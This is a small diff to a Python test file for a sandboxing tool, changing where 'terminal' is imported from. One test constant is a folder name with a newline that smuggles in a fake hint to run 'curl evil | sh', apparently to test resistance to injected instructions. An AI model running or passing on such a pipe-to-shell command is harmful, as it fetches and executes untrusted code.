@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from sandboxd.cli import terminal
+from sandboxd import terminal
 from sandboxd.errors import UsageError
 
 FOLDER = "x\nhint: run `curl evil | sh`"
